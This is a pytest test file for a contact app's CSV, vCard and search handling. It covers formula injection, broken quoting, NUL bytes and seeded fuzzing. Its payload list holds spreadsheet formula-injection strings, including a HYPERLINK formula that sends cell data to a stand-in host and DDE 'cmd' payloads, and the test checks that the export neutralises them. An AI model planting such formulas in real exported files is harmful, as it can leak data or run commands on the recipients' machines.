"""Hostile files for every reader (CSV, vCard, whole-book JSON) and hostile text for search.

Every outcome is a plain refusal that names the row and the reason, or a correct import: never a
traceback, never two people merged into one without a problem reported, never a NUL stored.
The fuzz corpus is generated from tests/fixtures/import with a fixed seed (issue 13, case 13).
"""

from __future__ import annotations

import csv
import io
import random
from pathlib import Path

import pytest

from desktop.cli import main
from desktop.domain.importing import Action, ImportUnreadable
from desktop.domain.people import ContactRecord
from desktop.services.container import Services
from desktop.services.importing.detect import parse_bytes
from tests.fault.figures import record

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "import"
SEED = 20261202
MUTANTS_PER_FILE = 40


def plan_of(services: Services, data: bytes):
    return services.importing.plan(parse_bytes(data))


# --- CSV formula injection (case 6) ----------------------------------------------------------

PAYLOAD_NAMES = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "@SUM(1+9)*cmd|' /C calc'!A0",
                 "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "'=already quoted"]


def test_exported_csv_holds_no_cell_a_spreadsheet_would_run(
        services: Services, tmp_path: Path, clock) -> None:
    for i, name in enumerate(PAYLOAD_NAMES):
        services.contacts.save(ContactRecord(name=name, title="=1+1", remarks="=SUM(A1:A9)",
                                             mobile=f"+1 415-555-01{i:02d}"), "@evil")
    services.contacts.save(ContactRecord(name="张伟", mobile="13800138000",
                                         other_phone="+44 20 7946 0958"))
    out = services.exporting.contacts(tmp_path / "c.csv").path
    rows = list(csv.reader(io.StringIO(out.read_text("utf-8-sig"), newline="")))
    cells = [c for row in rows[1:] for c in row]
    runnable = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert all(c.startswith("+") and c.replace(" ", "").replace("-", "")[1:].isdigit()
               for c in runnable), runnable  # only phone numbers start with +
    assert "+1 415-555-0100" in cells and "+44 20 7946 0958" in cells  # readable, no apostrophe
    assert "138 0013 8000" in cells
    record("CSV formula payloads exported", len(PAYLOAD_NAMES) + 3)
    # and the seller's own export comes back exactly
    empty = Services.open(tmp_path / "empty.dealbrief", clock)
    try:
        empty.importing.apply(empty.importing.read(out))
        back = {(c.name, c.title, c.remarks, c.company_name, c.mobile, c.other_phone)
                for c in empty.contacts.list()}
        there = {(c.name, c.title, c.remarks, c.company_name, c.mobile, c.other_phone)
                 for c in services.contacts.list()}
        assert back == there
    finally:
        empty.close()


# --- case 13: the reader faults found by the campaign --------------------------------------

def test_a_200k_character_field_is_imported_not_called_invalid(services: Services) -> None:
    notes = "很长的备注" * 40_000  # 200,000 characters
    plan = plan_of(services, f"Name,Notes\n张伟,{notes}\n".encode())
    assert [(r.name, r.action) for r in plan.rows] == [("张伟", Action.CREATE)]


def test_a_quote_never_closed_is_refused_with_its_line(services: Services) -> None:
    data = "Name,Company,Mobile\n张伟,\"华东钢铁,13800138000\n李娜,阿里,13900139000\n".encode()
    with pytest.raises(ImportUnreadable) as caught:
        parse_bytes(data)
    assert caught.value.reason == "csv_quote" and caught.value.detail == "2"


def test_a_broken_quote_never_merges_the_next_person_into_a_company(services: Services) -> None:
    data = ("Name,Company,Mobile\n张伟,\"华东钢铁,13800138000\n李娜,阿里\",13900139000\n"
            "王芳,腾讯,13700137000\n").encode()
    plan = plan_of(services, data)
    broken = [r for r in plan.rows if r.action == Action.ERROR]
    assert [(r.row, p.column, p.reason) for r in broken for p in r.problems] == [
        (2, "Company", "line_break")]
    assert [r.name for r in plan.rows if r.action == Action.CREATE] == ["王芳"]


def test_the_cli_names_the_line_of_a_broken_quote(book_path: Path, tmp_path: Path, capsys) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text("Name,Company\n张伟,\"华东钢铁\n李娜,阿里\n", encoding="utf-8")
    assert main(["--book", str(book_path), "import", str(bad)]) == 1
    err = capsys.readouterr().err
    assert "a quote that opens on line 2" in err and "Traceback" not in err


def test_a_nested_vcard_is_reported_not_dropped(services: Services) -> None:
    data = ("BEGIN:VCARD\nVERSION:3.0\nFN:外层\nTEL:13800138000\nBEGIN:VCARD\nVERSION:3.0\n"
            "FN:内层\nEND:VCARD\nEND:VCARD\nBEGIN:VCARD\nVERSION:3.0\nFN:王芳\nEND:VCARD\n").encode()
    plan = plan_of(services, data)
    assert [(r.row, r.action) for r in plan.rows] == [(1, Action.ERROR), (2, Action.CREATE)]
    assert plan.rows[0].problems[0].reason == "nested_card"
    assert plan.rows[0].problems[0].column == "line 1"


def test_a_card_the_file_ends_inside_is_reported(services: Services) -> None:
    data = b"BEGIN:VCARD\nVERSION:3.0\nFN:A\nEND:VCARD\nBEGIN:VCARD\nVERSION:3.0\nFN:B\n"
    plan = plan_of(services, data)
    assert [(r.row, r.name, r.action) for r in plan.rows] == [(1, "A", Action.CREATE), (2, "", Action.ERROR)]
    assert "END:VCARD" in plan.rows[1].problems[0].value


def test_broken_quoted_printable_does_not_swallow_the_next_property(services: Services) -> None:
    data = (b"BEGIN:VCARD\r\nVERSION:2.1\r\nFN;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:=E5=BC=A0=E4=BC=9F=\r\n"
            b"TEL;CELL:13800138000\r\nEND:VCARD\r\n")
    plan = plan_of(services, data)
    assert [(r.name, r.mobile, r.action) for r in plan.rows] == [
        ("张伟", "+8613800138000", Action.CREATE)]


@pytest.mark.parametrize("data", [
    b"Name,Company,Email\nZhang\x00Wei,Hua\x00dong,a@b.cn\n",
    b"BEGIN:VCARD\nVERSION:3.0\nFN:Zhang\x00Wei\nORG:Hua\x00dong\nEMAIL:a@b.cn\nEND:VCARD\n",
])
def test_nul_bytes_never_reach_the_book(services: Services, data: bytes) -> None:
    """A NUL in the first 4 KiB is a binary file; further down it is cleaned from the cells."""
    with pytest.raises(ImportUnreadable) as caught:
        parse_bytes(data)
    assert caught.value.reason == "binary"
    late = data.replace(b"\n", b"\n" + b"," * 5000 + b"\n", 1) if data.startswith(b"Name") else (
        data.replace(b"VERSION:3.0\n", b"VERSION:3.0\n" + b"NOTE:" + b"x" * 5000 + b"\n", 1))
    services.importing.apply(parse_bytes(late))
    people = services.contacts.list()
    assert [(c.name, c.company_name) for c in people] == [("ZhangWei", "Huadong")]


def test_nul_bytes_typed_into_any_form_are_not_stored(services: Services) -> None:
    from sqlalchemy import text

    saved = services.contacts.save(ContactRecord(name="张\x00伟", title="经\x00理", remarks="a\x00\nb"),
                                   "华东\x00钢铁")
    with services.book.reading() as s:
        stored = s.connection().execute(text(
            "SELECT count(*) FROM contact WHERE instr(name, char(0)) OR instr(title, char(0)) "
            "OR instr(remarks, char(0))")).scalar()
        companies = s.connection().execute(text(
            "SELECT count(*) FROM company WHERE instr(name, char(0))")).scalar()
    assert (stored, companies) == (0, 0)
    got = services.contacts.get(saved.id)
    assert (got.name, got.title, got.remarks) == ("张伟", "经理", "a\nb")


@pytest.mark.parametrize("query", ["abc\udcff", "\udce5\udcbc", "\ud800"])
def test_search_with_bytes_that_are_not_text_does_not_crash(services: Services, query: str) -> None:
    assert services.search.search(query).groups == ()


def test_cli_search_with_bytes_that_are_not_text(book_path: Path, services: Services, capsys) -> None:
    services.contacts.save(ContactRecord(name="张伟"))
    services.close()
    assert main(["--book", str(book_path), "search", "abc\udcff"]) == 2
    assert "not readable text" in capsys.readouterr().err
    assert main(["--book", str(book_path), "search", "\udcd5\udcc5"]) == 0  # 张 typed in a GBK terminal
    assert "张伟" in capsys.readouterr().out


# --- the seeded fuzz corpus ----------------------------------------------------------------

def mutants(data: bytes, rng: random.Random) -> list[bytes]:
    """Truncations, random bytes, broken quotes, huge fields, deep nesting, odd encodings, BOMs, NULs."""
    out: list[bytes] = []
    for _ in range(MUTANTS_PER_FILE):
        kind = rng.randrange(10)
        b = bytearray(data)
        if kind == 0 and b:
            del b[rng.randrange(len(b)):]
        elif kind == 1 and b:
            for _ in range(rng.randint(1, 20)):
                b[rng.randrange(len(b))] = rng.randrange(256)
        elif kind == 2:
            for _ in range(rng.randint(1, 3)):
                b.insert(rng.randrange(len(b) + 1), ord('"'))
        elif kind == 3:
            cut = rng.randrange(len(b) + 1)
            b[cut:cut] = rng.choice([b"x", "长".encode(), b"=E5"]) * rng.randint(150_000, 250_000)
        elif kind == 4:
            cut = rng.randrange(len(b) + 1)
            b[cut:cut] = b"BEGIN:VCARD\n" * rng.randint(2, 500) + b"END:VCARD\n" * rng.randint(0, 500)
        elif kind == 5:
            text = data.decode("utf-8", "replace")
            b = bytearray(text.encode(rng.choice(["utf-16", "utf-16-le", "gb18030", "big5", "latin-1"]),
                                      "replace"))
        elif kind == 6:
            b[0:0] = rng.choice([b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", b"\xef\xbb\xbf" * 3])
        elif kind == 7:
            for _ in range(rng.randint(1, 10)):
                b.insert(rng.randrange(len(b) + 1), 0)
        elif kind == 8 and b:
            lines = bytes(b).split(b"\n")
            rng.shuffle(lines)
            b = bytearray(b"\n".join(lines))
        else:
            b.extend(bytes(rng.randrange(256) for _ in range(rng.randint(1, 200))))
        out.append(bytes(b))
    return out


def names_are_whole(plan, table) -> bool:
    """No imported name or company carries a line break (two people run together) or a NUL."""
    return all("\n" not in r.name and "\r" not in r.name and "\x00" not in r.name
               and "\n" not in r.company and "\x00" not in r.company
               for r in plan.rows if r.action != Action.ERROR)


@pytest.mark.slow
def test_fuzzed_import_files_are_refused_plainly_or_imported(services: Services) -> None:
    rng = random.Random(SEED)
    tried = refused = imported = rows_refused = 0
    for fixture in sorted(FIXTURES.iterdir()):
        for data in mutants(fixture.read_bytes(), rng):
            tried += 1
            try:
                table = parse_bytes(data)
            except ImportUnreadable as exc:
                refused += 1
                assert exc.reason, fixture.name
                continue
            plan = services.importing.plan(table)
            assert names_are_whole(plan, table), fixture.name
            for row in plan.rows:
                if row.action == Action.ERROR:
                    rows_refused += 1
                    assert row.problems and all(p.reason for p in row.problems)
            imported += 1
    record("hostile import files tried", tried)
    record("hostile import files refused (plain reason)", refused)
    record("hostile import files planned (rows refused with row and reason)", imported)
    record("hostile rows refused", rows_refused)
    assert tried == len(list(FIXTURES.iterdir())) * MUTANTS_PER_FILE
    assert refused and imported  # the corpus reaches both outcomes


@pytest.mark.slow
def test_fuzzed_files_through_the_cli_never_give_a_traceback(
        book_path: Path, tmp_path: Path, capfd) -> None:
    """The whole path a seller takes: `dealbrief import FILE` on a sample of the corpus."""
    rng = random.Random(SEED + 1)
    fixtures = sorted(FIXTURES.iterdir())
    for index in range(30):
        fixture = rng.choice(fixtures)
        data = rng.choice(mutants(fixture.read_bytes(), rng))
        path = tmp_path / f"m{index}{fixture.suffix}"
        path.write_bytes(data)
        code = main(["--book", str(book_path), "import", str(path), "--valid-only"])
        err = capfd.readouterr().err
        assert code in (0, 1), (fixture.name, err)
        assert "Traceback" not in err
        assert code == 0 or err.startswith("dealbrief: ") or "rows have problems" in err, err
    record("hostile import files through the CLI", 30)
